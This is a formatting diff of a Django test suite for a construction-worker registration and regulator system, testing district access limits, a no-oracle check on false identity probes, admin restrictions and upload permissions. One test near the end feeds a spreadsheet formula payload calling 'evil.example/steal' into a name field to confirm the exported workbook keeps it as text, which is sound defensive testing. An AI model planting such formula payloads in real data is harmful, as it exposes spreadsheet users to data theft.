@@ -30,10 +30,20 @@ def page_client(user) -> Client:
 
 
 def register(client, project, employer, number=NUMBER, name="李建军", **extra):
-    return client.post(f"/api/v1/projects/{project.permit_no}/engagements/", {
-        "id_number": number, "name": name, "employer": employer.uscc, "category": "worker", "team": "钢筋一班",
-        "trade": "020", "entered_on": "2026-11-20", **extra,
-    }, format="json")  # fmt: skip
+    return client.post(
+        f"/api/v1/projects/{project.permit_no}/engagements/",
+        {
+            "id_number": number,
+            "name": name,
+            "employer": employer.uscc,
+            "category": "worker",
+            "team": "钢筋一班",
+            "trade": "020",
+            "entered_on": "2026-11-20",
+            **extra,
+        },
+        format="json",
+    )
 
 
 @pytest.fixture(autouse=True)
@@ -73,7 +83,10 @@ def test_a_probe_with_a_false_name_learns_no_name_and_the_district_sees_it(city)
     assert not city.other_project.engagements.exists()
     conflict = IdentityConflict.objects.get()
     assert (conflict.offered_name, conflict.project, conflict.offered_by) == (
-        "张三", city.other_project, city.users["other_contractor"])  # fmt: skip
+        "张三",
+        city.other_project,
+        city.users["other_contractor"],
+    )
     jiangbei = page_client(city.users["jiangbei"]).get("/districts/330205/").content.decode()
     section = jiangbei.split("身份信息冲突")[1]
     assert "张三" in section and "李建军" in section and NUMBER not in jiangbei
@@ -92,22 +105,50 @@ def test_district_staff_cannot_put_a_measure_on_a_firm_or_person_of_another_dist
     stranger = engage(city.other_project, city.other_contractor, person(id_number("330205", "19800101", 11), "赵六"))
     case = case_open(user=city.users["haishu"], project=city.project, title="考勤异常")
     staff = city.client("haishu")
-    firm = staff.post(f"/api/v1/cases/{case.pk}/measures/", {
-        "kind": "credit", "issued_on": "2026-11-24", "target_enterprise": city.other_contractor.uscc, "points": 3,
-    }, format="json")  # fmt: skip
+    firm = staff.post(
+        f"/api/v1/cases/{case.pk}/measures/",
+        {
+            "kind": "credit",
+            "issued_on": "2026-11-24",
+            "target_enterprise": city.other_contractor.uscc,
+            "points": 3,
+        },
+        format="json",
+    )
     assert firm.status_code == 400 and "target_enterprise" in firm.json()
-    someone = staff.post(f"/api/v1/cases/{case.pk}/measures/", {
-        "kind": "credit", "issued_on": "2026-11-24", "target_person": stranger.person_id, "points": 3,
-    }, format="json")  # fmt: skip
-    nobody = staff.post(f"/api/v1/cases/{case.pk}/measures/", {
-        "kind": "credit", "issued_on": "2026-11-24", "target_person": 99_999_999, "points": 3,
-    }, format="json")  # fmt: skip
+    someone = staff.post(
+        f"/api/v1/cases/{case.pk}/measures/",
+        {
+            "kind": "credit",
+            "issued_on": "2026-11-24",
+            "target_person": stranger.person_id,
+            "points": 3,
+        },
+        format="json",
+    )
+    nobody = staff.post(
+        f"/api/v1/cases/{case.pk}/measures/",
+        {
+            "kind": "credit",
+            "issued_on": "2026-11-24",
+            "target_person": 99_999_999,
+            "points": 3,
+        },
+        format="json",
+    )
     assert someone.status_code == nobody.status_code == 400
     assert someone.json() == nobody.json() and "赵六" not in someone.content.decode()  # no oracle either
     assert not case.measures.exists()
-    own = staff.post(f"/api/v1/cases/{case.pk}/measures/", {
-        "kind": "credit", "issued_on": "2026-11-24", "target_enterprise": city.subcontractor.uscc, "points": 3,
-    }, format="json")  # fmt: skip
+    own = staff.post(
+        f"/api/v1/cases/{case.pk}/measures/",
+        {
+            "kind": "credit",
+            "issued_on": "2026-11-24",
+            "target_enterprise": city.subcontractor.uscc,
+            "points": 3,
+        },
+        format="json",
+    )
     assert own.status_code == 201
 
 
@@ -117,16 +158,32 @@ def test_district_staff_cannot_put_a_measure_on_a_firm_or_person_of_another_dist
 @pytest.fixture
 def staffed(city):
     """The contractor's project manager and a worker, the subcontractor's worker; a day's presence each."""
-    manager = engage(city.project, city.contractor, person(id_number("330203", "19700101", 21), "王建国"),
-                     category="manager", position="project_manager")  # fmt: skip
+    manager = engage(
+        city.project,
+        city.contractor,
+        person(id_number("330203", "19700101", 21), "王建国"),
+        category="manager",
+        position="project_manager",
+    )
     ours = engage(city.project, city.contractor, person(id_number("330203", "19900101", 31), "总包工人甲"))
     theirs = engage(city.project, city.subcontractor, person(id_number("330203", "19910101", 41), "分包工人乙"))
     at = dt.datetime(2026, 11, 24, 8, tzinfo=SH)
-    DailyPresence.objects.bulk_create([
-        DailyPresence(person=e.person, project=city.project, day=dt.date(2026, 11, 24), first_at=at, last_at=at,
-                      punch_count=1, valid_count=1, first_valid_at=at, last_valid_at=at)
-        for e in (manager, ours, theirs)
-    ])  # fmt: skip
+    DailyPresence.objects.bulk_create(
+        [
+            DailyPresence(
+                person=e.person,
+                project=city.project,
+                day=dt.date(2026, 11, 24),
+                first_at=at,
+                last_at=at,
+                punch_count=1,
+                valid_count=1,
+                first_valid_at=at,
+                last_valid_at=at,
+            )
+            for e in (manager, ours, theirs)
+        ]
+    )
     return {"manager": manager, "ours": ours, "theirs": theirs}
 
 
@@ -156,9 +213,17 @@ def test_a_subcontractor_sees_its_own_workers_only(city, staffed):
 # --- City settings are the city's alone -----------------------------------------------------------------
 
 
-@pytest.mark.parametrize("page", ["/admin/inspections/policy/", "/admin/inspections/exportgrant/",
-                                  "/admin/inspections/rulerun/", "/admin/inspections/nightlyrun/",
-                                  "/admin/inspections/creditdeduction/", "/admin/projects/region/"])  # fmt: skip
+@pytest.mark.parametrize(
+    "page",
+    [
+        "/admin/inspections/policy/",
+        "/admin/inspections/exportgrant/",
+        "/admin/inspections/rulerun/",
+        "/admin/inspections/nightlyrun/",
+        "/admin/inspections/creditdeduction/",
+        "/admin/projects/region/",
+    ],
+)
 def test_only_the_city_opens_the_city_settings_in_the_admin(city, page):
     for who in ("haishu", "contractor", "vendor"):
         assert page_client(city.users[who]).get(page).status_code == 403, who
@@ -169,16 +234,23 @@ def test_only_the_city_opens_the_city_settings_in_the_admin(city, page):
 
 
 def test_district_staff_cannot_withdraw_or_add_files_to_a_request_the_city_filed(city):
-    request = status_request_submit(user=city.users["city"], project=city.project, kind="suspension",
-                                    reason="市级督办停工", effective_from=dt.date(2026, 11, 25))  # fmt: skip
+    request = status_request_submit(
+        user=city.users["city"],
+        project=city.project,
+        kind="suspension",
+        reason="市级督办停工",
+        effective_from=dt.date(2026, 11, 25),
+    )
     staff = city.client("haishu")
     assert staff.post(f"/api/v1/status-requests/{request.pk}/withdraw/").status_code == 403
     pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
     from django.core.files.uploadedfile import SimpleUploadedFile
 
-    upload = staff.post(f"/api/v1/status-requests/{request.pk}/attachments/",
-                        {"kind": "form_scan", "file": SimpleUploadedFile("a.pdf", pdf, "application/pdf")},
-                        format="multipart")  # fmt: skip
+    upload = staff.post(
+        f"/api/v1/status-requests/{request.pk}/attachments/",
+        {"kind": "form_scan", "file": SimpleUploadedFile("a.pdf", pdf, "application/pdf")},
+        format="multipart",
+    )
     assert upload.status_code == 403
     request.refresh_from_db()
     assert request.state != "withdrawn" and not request.attachments.exists()
@@ -305,8 +377,9 @@ def test_a_name_written_as_a_formula_stays_text_in_the_regulators_workbook(city)
     formula = '=HYPERLINK("http://evil.example/steal","点击查看")'
     answer = register(city.client("contractor"), city.project, city.subcontractor, team=formula)
     assert answer.status_code == 201
-    download = city.client("contractor").get(f"/reports/ledger.xlsx?project={city.project.permit_no}"
-                                             "&from=2026-11&to=2026-11")  # fmt: skip
+    download = city.client("contractor").get(
+        f"/reports/ledger.xlsx?project={city.project.permit_no}&from=2026-11&to=2026-11"
+    )
     assert download.status_code == 200
     sheet = load_workbook(io.BytesIO(download.content))["人员台账"]
     cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
